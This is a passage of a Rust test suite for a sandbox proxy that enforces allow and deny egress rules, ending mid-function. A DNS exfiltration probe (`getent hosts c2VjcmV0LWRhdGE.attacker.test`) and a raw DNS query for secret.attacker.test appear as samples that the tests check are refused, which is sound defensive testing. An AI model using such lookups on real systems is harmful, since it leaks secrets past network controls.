//! `sandbox.network = "proxy"` for real (both builders: `cargo xtask ci` runs this file's
//! parent again with bubblewrap): the run has a network namespace of its own with only
//! loopback; `curl`, told nothing but the proxy variables the helper sets, reaches what
//! the gate allows — plain HTTP, and HTTPS through a `CONNECT` tunnel to a name the proxy
//! resolves itself — and nothing else; a program that ignores the proxy variables gets
//! nowhere; every connection is on the run's output with its verdict and bytes.

use super::*;
use sandbox::egress::proxy::{Admission, Gate, Limits, Resolve};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};

/// Allows exactly the listed (host, port) pairs; an address pair names its address.
struct ListGate(Vec<(String, u16)>);

impl Gate for ListGate {
    fn admit(&self, host: &str, port: u16) -> Admission {
        if self.0.iter().any(|(h, p)| h == host && *p == port) {
            Admission::Allow {
                rule: format!("test allows {host}:{port}"),
                names_address: host.parse::<std::net::IpAddr>().is_ok(),
            }
        } else {
            Admission::Refuse(format!("the test allows no {host}:{port}"))
        }
    }

    fn admit_name(&self, host: &str) -> Admission {
        if self.names(host) {
            Admission::Allow {
                rule: format!("test allows {host}"),
                names_address: false,
            }
        } else {
            Admission::Refuse(format!("the test names no {host}"))
        }
    }
}

/// Lookups inside the sandbox (the run's DNS stub): a name some allowed pair names.
impl ListGate {
    fn names(&self, host: &str) -> bool {
        self.0.iter().any(|(h, _)| h == host)
    }
}

/// Resolves `example.test` (and nothing else) to `to`.
struct TestResolver(std::net::IpAddr);

impl Resolve for TestResolver {
    fn resolve<'a>(
        &'a self,
        host: &'a str,
        port: u16,
    ) -> std::pin::Pin<Box<dyn Future<Output = std::io::Result<Vec<SocketAddr>>> + Send + 'a>> {
        Box::pin(async move {
            match host {
                "example.test" => Ok(vec![SocketAddr::new(self.0, port)]),
                _ => Err(std::io::Error::other("no such name in the test")),
            }
        })
    }
}

fn proxied(lab: &Lab, gate: ListGate, resolver: TestResolver) -> Arc<NamespaceSandbox> {
    Arc::new(
        lab.namespace_sandbox(sandbox::Network::Proxy)
            .with_egress(sandbox::Egress {
                gate: Arc::new(gate),
                resolver: Arc::new(resolver),
                limits: Limits {
                    head_timeout: Duration::from_secs(5),
                    connect_timeout: Duration::from_secs(5),
                },
            }),
    )
}

/// A proxy sandbox whose gate allows one port of the host's loopback, by its address.
fn allowing_loopback_port(lab: &Lab, port: u16) -> Arc<NamespaceSandbox> {
    proxied(
        lab,
        ListGate(vec![("127.0.0.1".into(), port)]),
        TestResolver(std::net::Ipv4Addr::LOCALHOST.into()),
    )
}

/// An HTTP server on `at` answering every request with `body`.
fn serve_http(at: &str, body: &'static str) -> SocketAddr {
    serve(at, move |_| Some(body.as_bytes().to_vec()))
}

fn curl_present() -> bool {
    let found = Path::new("/usr/bin/curl").exists();
    if !found {
        eprintln!(
            "SKIPPED: /usr/bin/curl is missing (.ci/run installs it): the proxy-mode tests drive a real client"
        );
    }
    found
}

async fn sh(sandbox: &Arc<NamespaceSandbox>, lab: &Lab, script: &str) -> ExecOutput {
    sandbox
        .shell(Profile::Writable)
        .exec(
            &["/bin/sh".into(), "-c".into(), script.into()],
            &lab.options(&[]),
        )
        .await
        .unwrap()
}

#[tokio::test]
async fn a_proxy_run_reaches_only_what_its_gate_allows_and_reports_every_connection() {
    if !bwrap_usable() || !curl_present() {
        return;
    }
    let lab = lab();
    let allowed = serve_http("127.0.0.1:0", "hello through the proxy");
    let other = serve_http("127.0.0.1:0", "must not be reached");
    let sandbox = allowing_loopback_port(&lab, allowed.port());
    // Only the proxy variables lead out; the command is told nothing else.
    let out = sh(
        &sandbox,
        &lab,
        &format!(
            "env | grep -i _proxy= | sort; curl -sS --max-time 20 http://{allowed}/a; echo; \
             curl -sS --max-time 20 -o /dev/null -w 'other=%{{http_code}}\\n' http://{other}/b; \
             curl -sS --max-time 5 --noproxy '*' http://{allowed}/c || echo direct=refused"
        ),
    )
    .await;
    assert!(out.stdout.contains("hello through the proxy"), "{out:?}");
    assert!(out.stdout.contains("other=403"), "{out:?}");
    assert!(out.stdout.contains("direct=refused"), "{out:?}");
    assert!(!out.stdout.contains("must not be reached"), "{out:?}");
    assert!(
        out.stdout.contains("HTTPS_PROXY=http://127.0.0.1:"),
        "{out:?}"
    );
    assert!(!out.stdout.to_lowercase().contains("no_proxy"), "{out:?}");
    // Two connections reached the proxy (the direct one never left the namespace), each
    // reported with its verdict; the allowed one with its bytes.
    assert_eq!(out.egress.len(), 2, "{:?}", out.egress);
    let reached = out
        .egress
        .iter()
        .find(|c| c.port == allowed.port())
        .expect("the allowed connection is reported");
    assert!(reached.allowed && reached.kind == "http", "{reached:?}");
    assert!(reached.sent > 0 && reached.received > 0, "{reached:?}");
    let refused = out
        .egress
        .iter()
        .find(|c| c.port == other.port())
        .expect("the refused connection is reported");
    assert!(!refused.allowed, "{refused:?}");
    assert!(refused.reason.contains("allows no"), "{refused:?}");
    // Sockets of other families than Unix, IPv4 and IPv6 are refused by seccomp, a
    // second wall behind the namespace (netlink: the network's configuration).
    if Path::new("/usr/bin/python3").exists() {
        let out = sh(
            &sandbox,
            &lab,
            r#"/usr/bin/python3 -c 'import socket
for f in (socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET):
  kind = socket.SOCK_STREAM if f in (socket.AF_INET, socket.AF_INET6) else socket.SOCK_RAW
  try: socket.socket(f, kind).close(); print(f.name, "made")
  except OSError as e: print(f.name, e.errno)'"#,
        )
        .await;
        assert!(out.stdout.contains("AF_INET made"), "{out:?}");
        assert!(out.stdout.contains("AF_INET6 made"), "{out:?}");
        assert!(out.stdout.contains("AF_NETLINK 1\n"), "{out:?}");
        assert!(out.stdout.contains("AF_PACKET 1\n"), "{out:?}");
    } else {
        eprintln!(
            "SKIPPED (part): /usr/bin/python3 is missing, so the socket families were not tried"
        );
    }
}

/// Around the proxy, nothing: TCP and UDP to the host's loopback (where a resolver, or
/// anything else, might listen) and the host's abstract sockets stay out of reach of a
/// proxy run, exactly as with the network off.
#[tokio::test]
async fn a_proxy_run_reaches_nothing_of_the_host_but_through_the_proxy() {
    if !bwrap_usable() {
        return;
    }
    let lab = lab();
    let host = HostSockets::open("proxy");
    let env = host.env();
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let sandbox = allowing_loopback_port(&lab, 9);
    let got = lab.probe_in(&sandbox, "net", &env).await;
    host.assert_unreached(&got);
}

/// The command holds nothing of the way out: the helper handed the run's listener to
/// Warden and closed both it and the broker's descriptor before the command started, so
/// the command's only descriptors are its standard three (the fourth is `ls`'s own
/// directory) and no socket of any kind — nothing it could send on, or accept from.
#[tokio::test]
async fn a_proxy_runs_command_holds_neither_the_listener_nor_the_brokers_descriptor() {
    if !bwrap_usable() {
        return;
    }
    let lab = lab();
    let sandbox = allowing_loopback_port(&lab, 9);
    let out = sh(
        &sandbox,
        &lab,
        "ls /proc/self/fd; for f in /proc/self/fd/*; do readlink $f; done; true",
    )
    .await;
    assert!(out.status.success(), "{out:?}");
    let listed: Vec<&str> = out
        .stdout
        .lines()
        .take_while(|l| !l.starts_with('/'))
        .collect();
    assert!(
        listed.len() <= 4,
        "the command holds more descriptors: {}",
        out.stdout
    );
    assert!(
        !out.stdout.contains("socket:"),
        "the command holds a socket: {}",
        out.stdout
    );
}

/// Every name Warden's resolver was asked for, answering `example.test` with a public
/// (documentation) address and nothing else.
#[derive(Clone, Default)]
struct RecordingResolver(Arc<std::sync::Mutex<Vec<String>>>);

impl Resolve for RecordingResolver {
    fn resolve<'a>(
        &'a self,
        host: &'a str,
        port: u16,
    ) -> std::pin::Pin<Box<dyn Future<Output = std::io::Result<Vec<SocketAddr>>> + Send + 'a>> {
        // The stub asks for absolute names (a final dot), the proxy for names as given.
        let host = host.strip_suffix('.').unwrap_or(host);
        self.0.lock().unwrap().push(host.to_owned());
        Box::pin(async move {
            match host {
                "example.test" => Ok(vec![SocketAddr::from(([203, 0, 113, 7], port))]),
                _ => Err(std::io::Error::other("no such name in the test")),
            }
        })
    }
}

/// Names inside a proxy run: `/etc/resolv.conf` names the run's stub alone; a name the
/// rules allow resolves (to what Warden's resolver says); any other — the way data would
/// leave through DNS, `<secret>.attacker.test` — is refused at once, never reaches a
/// resolver, and is on the run's report.
#[tokio::test]
async fn names_resolve_inside_only_as_the_rules_allow_and_nothing_else_is_looked_up() {
    if !bwrap_usable() {
        return;
    }
    let lab = lab();
    let asked = RecordingResolver::default();
    let sandbox = Arc::new(lab.namespace_sandbox(sandbox::Network::Proxy).with_egress(
        sandbox::Egress {
            gate: Arc::new(ListGate(vec![("example.test".into(), 443)])),
            resolver: Arc::new(asked.clone()),
            limits: Limits::default(),
        },
    ));
    let out = sh(
        &sandbox,
        &lab,
        concat!(
            "grep -v '^#' /etc/resolv.conf; getent ahostsv4 example.test | head -1; ",
            "getent hosts c2VjcmV0LWRhdGE.attacker.test || echo exfil=refused; ",
            "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status"
        ),
    )
    .await;
    assert!(out.status.success(), "{out:?}");
    assert!(
        out.stdout
            .starts_with("nameserver 127.0.0.1\noptions timeout:5 attempts:1\n"),
        "{out:?}"
    );
    assert!(out.stdout.contains("203.0.113.7"), "{out:?}");
    assert!(out.stdout.contains("exfil=refused"), "{out:?}");
    // The capability that bound the stub's port (under bubblewrap) is gone, with every
    // other, before the command starts.
    let caps: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("Cap"))
        .collect();
    assert_eq!(caps.len(), 5, "{out:?}");
    assert!(
        caps.iter().all(|l| l.ends_with("0000000000000000")),
        "{caps:?}"
    );
    let looked_up = asked.0.lock().unwrap().clone();
    assert!(
        looked_up.iter().all(|name| name == "example.test"),
        "only the allowed name was looked up: {looked_up:?}"
    );
    assert!(!looked_up.is_empty(), "example.test was looked up");
    let lookup = |host: &str| {
        out.egress
            .iter()
            .find(|c| c.kind == "dns" && c.host == host)
            .unwrap_or_else(|| panic!("no lookup of {host} reported: {:?}", out.egress))
    };
    assert!(lookup("example.test").allowed);
    let refused = lookup("c2vjcmv0lwrhdge.attacker.test");
    assert!(
        !refused.allowed && refused.reason.contains("names no"),
        "{refused:?}"
    );
    // The stub's answer itself, asked by hand: REFUSED (rcode 5), not a timeout.
    if Path::new("/usr/bin/python3").exists() {
        let out = sh(
            &sandbox,
            &lab,
            r#"/usr/bin/python3 -c 'import socket
q = bytes.fromhex("abcd01000001000000000000") + b"\x06secret\x08attacker\x04test\x00" + bytes.fromhex("00100001")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(q, ("127.0.0.1", 53)); r = s.recv(512)
print("id", r[:2].hex(), "rcode", r[3] & 15)'"#,
        )
        .await;
        assert!(out.stdout.contains("id abcd rcode 5"), "{out:?}");
    } else {
        eprintln!(
            "SKIPPED (part): /usr/bin/python3 is missing, so the stub's REFUSED was not read by hand"
        );
    }
    assert!(
        asked.0.lock().unwrap().iter().all(|n| n == "example.test"),
        "a refused name reached the resolver"
    );
}

/// A way to the host's own resolver over a Unix socket (D-Bus, systemd-resolved, nscd,
/// Avahi), shown inside by a readable path, would look any name up: a proxy run that
/// would show one is refused before anything runs, naming it.
#[tokio::test]
async fn a_proxy_run_that_would_show_the_hosts_resolver_is_refused() {
    if !bwrap_usable() {
        return;
    }
    let doors = [
        "/run/dbus",
        "/run/systemd/resolve",
        "/run/nscd",
        "/run/avahi-daemon",
    ];
    let Some(door) = doors.iter().find(|d| Path::new(d).is_dir()) else {
        eprintln!("SKIPPED: none of {doors:?} exists here, so none could be shown");
        return;
    };
    let lab = lab();
    let sandbox = Arc::new(
        lab.namespace_sandbox_reading(sandbox::Network::Proxy, vec![PathBuf::from(door)])
            .with_egress(sandbox::Egress {
                gate: Arc::new(ListGate(vec![("example.test".into(), 443)])),
                resolver: Arc::new(RecordingResolver::default()),
                limits: Limits::default(),
            }),
    );
    let err = refused_before_running(&sandbox, &lab).await;
    assert!(err.contains(door) && err.contains("resolver"), "{err}");
}

/// Why `sandbox` refuses a command that would leave a mark, checking it left none.
async fn refused_before_running(sandbox: &Arc<NamespaceSandbox>, lab: &Lab) -> String {
    let marker = lab.ws().join("ran");
    let err = sandbox
        .shell(Profile::Writable)
        .exec(
            &[
                "/bin/sh".into(),
                "-c".into(),
                format!("touch {}", marker.display()),
            ],
            &lab.options(&[]),
        )
        .await
        .unwrap_err();
    assert!(!marker.exists(), "the command ran");
    err.to_string()
}

#[tokio::test]
async fn a_proxy_run_without_a_gate_is_refused_before_anything_runs() {
    if !bwrap_usable() {
        return;
    }
    let lab = lab();
    let sandbox = Arc::new(lab.namespace_sandbox(sandbox::Network::Proxy));
    let err = refused_before_running(&sandbox, &lab).await;
    assert!(err.contains("no egress rules"), "{err}");
}

/// HTTPS by name: the proxy resolves `example.test` itself (to a non-special address on
/// the loopback of a network namespace this test makes) and tunnels TLS whose server
/// name is the one allowed; a name the gate does not allow gets a refusal, and nothing
/// is resolved for it.
#[test]
fn https_through_a_connect_tunnel_reaches_an_allowed_name() {
    if !bwrap_usable() || !curl_present() {
        return;
    }
    let Ok(openssl) = which("openssl") else {
        eprintln!(
            "SKIPPED: openssl is missing (.ci/run installs it): it serves the test's TLS upstream"
        );
        return;
    };
    std::thread::spawn(move || {
        // A network namespace for this thread only (and what it starts): the upstream
        // lives on 198.51.100.7, an address the proxy may connect to by name.
        // SAFETY: unshare with a plain flag, for this thread only.
        if unsafe { libc::unshare(libc::CLONE_NEWNET) } != 0 {
            let e = std::io::Error::last_os_error();
            eprintln!("SKIPPED: no network namespace can be made here ({e}): run as root");
            return;
        }
        for args in [
            vec!["link", "set", "lo", "up"],
            vec!["addr", "add", "198.51.100.7/32", "dev", "lo"],
        ] {
            let ok = Command::new("ip")
                .args(&args)
                .status()
                .is_ok_and(|s| s.success());
            assert!(ok, "ip {args:?} failed in the test's namespace");
        }
        let lab = lab();
        let certs = tempfile::tempdir().unwrap();
        let (cert, key) = (certs.path().join("cert.pem"), certs.path().join("key.pem"));
        let made = Command::new(&openssl)
            .args(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256"])
            .args(["-nodes", "-days", "1", "-subj", "/CN=example.test"])
            .args(["-addext", "subjectAltName=DNS:example.test"])
            .arg("-keyout")
            .arg(&key)
            .arg("-out")
            .arg(&cert)
            .output()
            .unwrap();
        assert!(made.status.success(), "{made:?}");
        // The CA file must be readable inside: the workspace is.
        let ca = lab.ws().join("ca.pem");
        std::fs::copy(&cert, &ca).unwrap();
        let mut server = start_server(
            Command::new(&openssl)
                .args(["s_server", "-quiet", "-www", "-accept", "198.51.100.7:8443"])
                .arg("-cert")
                .arg(&cert)
                .arg("-key")
                .arg(&key),
            "198.51.100.7:8443",
        );
        // A repository served over HTTPS (git's dumb protocol, by Python's own server),
        // for a real `git clone` by name; only where Python and git are.
        let git = which("git").ok().filter(|_| Path::new("/usr/bin/python3").exists());
        let repo_server = git.as_ref().map(|git| {
            let served = certs.path().join("served");
            let src = certs.path().join("src");
            let run = |args: &[&str], dir: &Path| {
                let out = Command::new(git)
                    .args(["-c", "user.name=t", "-c", "user.email=t@example.test"])
                    .args(args)
                    .current_dir(dir)
                    .output()
                    .unwrap();
                assert!(out.status.success(), "git {args:?}: {out:?}");
            };
            std::fs::create_dir_all(&src).unwrap();
            std::fs::create_dir_all(&served).unwrap();
            run(&["init", "-q"], &src);
            std::fs::write(src.join("README"), "cloned through the proxy\n").unwrap();
            run(&["add", "README"], &src);
            run(&["commit", "-qm", "one"], &src);
            run(&["clone", "-q", "--bare", "../src", "repo.git"], &served);
            run(&["update-server-info"], &served.join("repo.git"));
            let script = "import http.server, ssl, sys, functools\n\
                handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[3])\n\
                httpd = http.server.ThreadingHTTPServer(('198.51.100.7', 8444), handler)\n\
                ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\n\
                ctx.load_cert_chain(sys.argv[1], sys.argv[2])\n\
                httpd.socket = ctx.wrap_socket(httpd.socket, server_side=True)\n\
                httpd.serve_forever()\n";
            start_server(
                Command::new("/usr/bin/python3")
                    .args(["-c", script])
                    .arg(&cert)
                    .arg(&key)
                    .arg(&served),
                "198.51.100.7:8444",
            )
        });
        if repo_server.is_none() {
            eprintln!("SKIPPED (part): git or /usr/bin/python3 is missing, so git clone over HTTPS was not tried");
        }
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let out = runtime.block_on(async {
            let sandbox = proxied(
                &lab,
                ListGate(vec![
                    ("example.test".into(), 8443),
                    ("example.test".into(), 8444),
                ]),
                TestResolver("198.51.100.7".parse().unwrap()),
            );
            let clone = if repo_server.is_some() {
                format!(
                    "; GIT_SSL_CAINFO={ca} git clone -q https://example.test:8444/repo.git cloned 2>&1 && cat cloned/README",
                    ca = ca.display()
                )
            } else {
                String::new()
            };
            sh(
                &sandbox,
                &lab,
                &format!(
                    "curl -sS --max-time 20 --cacert {ca} https://example.test:8443/ | head -c 200; echo; \
                     curl -sS --max-time 20 --cacert {ca} https://other.test:8443/ || echo other=refused{clone}",
                    ca = ca.display()
                ),
            )
            .await
        });
        let _ = server.kill();
        let _ = server.wait();
        if let Some(mut child) = repo_server {
            let _ = child.kill();
            let _ = child.wait();
            assert!(out.stdout.contains("cloned through the proxy"), "{out:?}");
            assert!(
                out.egress
                    .iter()
                    .any(|c| c.port == 8444 && c.allowed && c.kind == "connect"),
                "{:?}",
                out.egress
            );
        }
        assert!(out.stdout.contains("s_server"), "{out:?}");
        assert!(out.stdout.contains("other=refused"), "{out:?}");
        let tunnel = out
            .egress
            .iter()
            .find(|c| c.host == "example.test")
            .expect("the tunnel is reported");
        assert!(tunnel.allowed && tunnel.kind == "connect", "{tunnel:?}");
        assert!(tunnel.received > 0, "{tunnel:?}");
        let other = out
            .egress
            .iter()
            .find(|c| c.host == "other.test")
            .expect("the refusal is reported");
        assert!(!other.allowed, "{other:?}");
    })
    .join()
    .unwrap();
}

/// Start the server `command` runs, quietly, and wait until it listens on `addr`.
fn start_server(command: &mut Command, addr: &str) -> std::process::Child {
    let child = command
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let listening = (0..100).any(|_| {
        std::thread::sleep(Duration::from_millis(50));
        std::net::TcpStream::connect(addr).is_ok()
    });
    assert!(listening, "{command:?} did not listen on {addr}");
    child
}

fn which(name: &str) -> Result<PathBuf, ()> {
    ["/usr/bin", "/bin", "/usr/local/bin"]
        .iter()
        .map(|d| Path::new(d).join(name))
        .find(|p| p.exists())
        .ok_or(())
}

/// The whole path a user takes: `config.toml` says `network = "proxy"` and names what
/// may be reached; `warden exec` (through its companion and without) runs curl in the
/// sandbox, which reaches that and nothing else, and says each connection on stderr;
/// `--json` carries them in `egress`. The plan the run was decided with names the rules.
#[test]
fn warden_exec_in_proxy_mode_reaches_what_config_allows_and_says_so() {
    if !bwrap_usable() || !curl_present() {
        return;
    }
    let allowed = serve_http("127.0.0.1:0", "hello from config");
    let other = serve_http("127.0.0.1:0", "must not be reached");
    let p = ProxyHome::new(&format!(
        "allow = [\"127.0.0.1:{}\"]\ndeny = [\"*.example.com\"]\n",
        allowed.port()
    ));
    for companion in ["on", "off"] {
        let out = p.warden()
            .env("WARDEN_COMPANION", companion)
            .args([
                "exec",
                "--shell",
                &format!(
                    "curl -sS --max-time 20 http://{allowed}/; echo; \
                     curl -sS --max-time 20 -o /dev/null -w 'other=%{{http_code}}\\n' http://{other}/"
                ),
            ])
            .output()
            .unwrap();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr),
        );
        assert!(
            out.status.success(),
            "companion {companion}: {stdout}\n{stderr}"
        );
        assert!(stdout.contains("hello from config"), "{stdout}\n{stderr}");
        assert!(stdout.contains("other=403"), "{stdout}\n{stderr}");
        assert!(
            stderr.contains(&format!(
                "warden: network: 127.0.0.1:{} http allowed ([sandbox.egress] allow 127.0.0.1:{})",
                allowed.port(),
                allowed.port()
            )),
            "{stderr}"
        );
        assert!(
            stderr.contains(&format!(
                "warden: network: 127.0.0.1:{} http refused: no [sandbox.egress] allow rule names 127.0.0.1 on port {}",
                other.port(),
                other.port()
            )),
            "{stderr}"
        );
    }
    let out = p
        .warden()
        .args(["exec", "--json", "--", "curl", "-sS", "--max-time", "20"])
        .arg(format!("http://{allowed}/"))
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["egress"][0]["allowed"], true, "{json}");
    assert_eq!(json["egress"][0]["port"], allowed.port(), "{json}");
    // The run's record keeps its connections too.
    let runs = support::log_records(p.home(), &["--kind", "run"]);
    let last = runs.last().expect("a run record");
    assert_eq!(last["egress"][0]["host"], "127.0.0.1", "{last}");
    assert_eq!(last["egress"][0]["allowed"], true, "{last}");
    // `policy explain` shows the run's network policy as it will be in force.
    let explained = p
        .warden()
        .args(["policy", "explain", "--json", "--", "curl", "http://x/"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&explained.stdout);
    assert!(text.contains("\"proxy\""), "{text}");
    // So does `warden doctor`, under the sandbox host.
    let doctor = p.warden().arg("doctor").output().unwrap();
    let said = String::from_utf8_lossy(&doctor.stdout);
    assert!(
        said.lines().any(|l| l.starts_with("ok    network")
            && l.contains("only through Warden's proxy, to 127.0.0.1:")
            && l.contains("never *.example.com")),
        "{said}"
    );
    assert!(
        text.contains(&format!("127.0.0.1:{}", allowed.port())) && text.contains("*.example.com"),
        "{text}"
    );
}

/// A Warden home whose sandbox reaches the network only through Warden's proxy, under
/// `egress` (the lines of its `[sandbox.egress]` table), with a workspace to run in.
struct ProxyHome {
    home: tempfile::TempDir,
    _workspace: tempfile::TempDir,
    workspace: std::path::PathBuf,
}

/// An agent's own `sandbox.egress` decides its runs' connections: its allow list
/// replaces the global one (another agent's host is not reached), the global deny list
/// still holds for it and its own deny adds to it, and what allowed or refused each
/// connection says whose rules they were. The same `warden exec` as another agent, in
/// the same home, is decided by the global rules alone — one sandbox, each run its own
/// rules.
#[test]
fn an_agents_own_egress_rules_decide_its_runs_and_only_its_runs() {
    if !bwrap_usable() || !curl_present() {
        return;
    }
    let global = serve_http("127.0.0.1:0", "the global host");
    let ci_only = serve_http("127.0.0.1:0", "the ci host");
    let denied = serve_http("127.0.0.1:0", "must not be reached");
    let p = ProxyHome::new(&format!(
        "allow = [\"127.0.0.1:{g}\", \"127.0.0.1:{d}\"]\ndeny = [\"*.example.com\"]\n\n\
         [[agents.list]]\nid = \"ci\"\n\
         sandbox.egress.allow = [\"127.0.0.1:{c}\", \"127.0.0.1:{d}\", \"x.example.com\"]\n\
         sandbox.egress.deny = [\"127.0.0.1:{d}\"]\n",
        g = global.port(),
        c = ci_only.port(),
        d = denied.port(),
    ));
    let script = format!(
        "{}; curl -sS --max-time 20 -o /dev/null -w 'x=%{{http_code}}\\n' http://x.example.com/",
        status_of_each(&[global, ci_only, denied])
    );
    let run = |agent: &str| {
        let out = p
            .warden()
            .args(["exec", "--agent", agent, "--ask", "off", "--shell", &script])
            .output()
            .unwrap();
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (stdout, stderr) = run("ci");
    for expected in [
        format!("{global}=403"),
        format!("{ci_only}=200"),
        format!("{denied}=403"),
        "x=403".to_owned(),
    ] {
        assert!(
            stdout.contains(&expected),
            "ci: {expected}\n{stdout}\n{stderr}"
        );
    }
    for said in [
        format!(
            "127.0.0.1:{c} http allowed (agent ci's sandbox.egress allow 127.0.0.1:{c})",
            c = ci_only.port()
        ),
        format!(
            "127.0.0.1:{d} http refused: agent ci's sandbox.egress deny 127.0.0.1:{d}",
            d = denied.port()
        ),
        "x.example.com:80 http refused: agent ci's sandbox.egress deny *.example.com".to_owned(),
    ] {
        assert!(stderr.contains(&said), "ci: {said}\n{stderr}");
    }
    let (stdout, stderr) = run("main");
    for expected in [
        format!("{global}=200"),
        format!("{ci_only}=403"),
        format!("{denied}=200"),
    ] {
        assert!(
            stdout.contains(&expected),
            "main: {expected}\n{stdout}\n{stderr}"
        );
    }
    assert!(
        stderr.contains(&format!(
            "127.0.0.1:{g} http allowed ([sandbox.egress] allow 127.0.0.1:{g})",
            g = global.port()
        )),
        "{stderr}"
    );
    // `policy explain` shows each agent's rules as its runs will have them.
    let explained = |agent: &str| {
        let out = p
            .warden()
            .args([
                "policy",
                "explain",
                "--json",
                "--agent",
                agent,
                "--",
                "curl",
                "http://x/",
            ])
            .output()
            .unwrap();
        serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()
    };
    let ci = explained("ci");
    assert_eq!(ci["policy"]["egress"]["agent"], "ci", "{ci}");
    assert_eq!(
        ci["policy"]["egress"]["deny"],
        serde_json::json!(["*.example.com", format!("127.0.0.1:{}", denied.port())]),
        "{ci}"
    );
    // And the plan's network line, which the approver of a command sees.
    let text = p
        .warden()
        .args([
            "policy",
            "explain",
            "--agent",
            "ci",
            "--",
            "curl",
            "http://x/",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains(&format!(
            "only through Warden's proxy, to 127.0.0.1:{}, 127.0.0.1:{}, x.example.com (never *.example.com, 127.0.0.1:{}) by agent ci's rules",
            ci_only.port(),
            denied.port(),
            denied.port()
        )),
        "{text}"
    );
    let main = explained("main");
    assert!(main["policy"]["egress"].get("agent").is_none(), "{main}");
    // `warden doctor` names the agents whose runs decide by rules of their own.
    let doctor = p.warden().arg("doctor").output().unwrap();
    let said = String::from_utf8_lossy(&doctor.stdout);
    assert!(
        said.contains("; agents with sandbox.egress of their own: ci"),
        "{said}"
    );
}

/// A request's own `egress` rules (`--egress-allow`, `--egress-deny`; the MCP `egress`
/// parameter is the same field) only narrow: a host the configuration allows but the
/// request does not name is refused without asking, the host both name is reached, the
/// request's deny refuses one the configuration allows, and the approver is shown the
/// narrowing in the plan. Where nothing could hold the run to them — the gateway host,
/// the host's network — the request is refused before anything runs.
#[test]
fn a_requests_own_egress_rules_only_narrow_and_are_refused_where_they_cannot_hold() {
    if !bwrap_usable() || !curl_present() {
        return;
    }
    let wanted = serve_http("127.0.0.1:0", "the wanted host");
    let unwanted = serve_http("127.0.0.1:0", "must not be reached");
    let p = ProxyHome::new(&format!(
        "allow = [\"127.0.0.1:{}\", \"127.0.0.1:{}\"]\n",
        wanted.port(),
        unwanted.port()
    ));
    let script = status_of_each(&[wanted, unwanted]);
    let out = p
        .warden()
        .args(["exec", "--egress-allow"])
        .arg(format!("127.0.0.1:{}", wanted.port()))
        .args(["--shell", &script])
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(
        stdout.contains(&format!("{wanted}=200")),
        "{stdout}\n{stderr}"
    );
    assert!(
        stdout.contains(&format!("{unwanted}=403")),
        "{stdout}\n{stderr}"
    );
    assert!(
        stderr.contains(&format!(
            "127.0.0.1:{u} http refused: the request's egress allow names no 127.0.0.1 on port {u}",
            u = unwanted.port()
        )),
        "{stderr}"
    );
    // Its deny list refuses a host the configuration allows.
    let out = p
        .warden()
        .args(["exec", "--egress-deny"])
        .arg(format!("127.0.0.1:{}", wanted.port()))
        .args(["--shell", &script])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains(&format!("{wanted}=403")), "{stdout}");
    assert!(stdout.contains(&format!("{unwanted}=200")), "{stdout}");
    // The plan says it (what a human asked about the command is shown).
    let explained = p
        .warden()
        .args([
            "policy",
            "explain",
            "--egress-allow",
            "pypi.org",
            "--egress-deny",
            "*.evil.example",
            "--",
            "pip",
            "download",
            "x",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&explained.stdout);
    assert!(
        text.contains("; this request: only pypi.org, never *.evil.example; another host the request names only as"),
        "{text}"
    );
    // A bad rule is refused naming it, before anything runs.
    let out = p
        .warden()
        .args(["exec", "--egress-allow", "*.com", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("whole top-level domain"),
        "{out:?}"
    );
    // Nothing could hold a gateway run, or one with the host's network, to the rules.
    let refused = |home: &std::path::Path, extra: &[&str]| {
        let out = warden_in(home)
            .args(["exec", "--egress-allow", "pypi.org"])
            .args(extra)
            .args(["--", "true"])
            .output()
            .unwrap();
        assert!(!out.status.success(), "{out:?}");
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    configure(
        p.home(),
        "[sandbox]\nnetwork = \"proxy\"\n",
        r#"{"version":1,"defaults":{"security":"full","ask":"off"}}"#,
    );
    let said = refused(p.home(), &["--host", "gateway"]);
    assert!(said.contains("this run runs on the gateway host"), "{said}");
    let open = warden_home();
    configure(
        open.path(),
        "[sandbox]\nnetwork = true\n",
        r#"{"version":1}"#,
    );
    let said = refused(open.path(), &[]);
    assert!(said.contains("this run has the host's network"), "{said}");
}

/// A script that fetches `http://ADDRESS/` of each of `addresses` with curl (through the
/// proxy, as its variables say) and prints `ADDRESS=STATUS` for each.
fn status_of_each(addresses: &[std::net::SocketAddr]) -> String {
    let list: Vec<String> = addresses.iter().map(ToString::to_string).collect();
    format!(
        "for a in {}; do \
           curl -sS --max-time 20 -o /dev/null -w \"$a=%{{http_code}}\\n\" http://$a/; \
         done",
        list.join(" ")
    )
}

impl ProxyHome {
    fn new(egress: &str) -> ProxyHome {
        let home = warden_home();
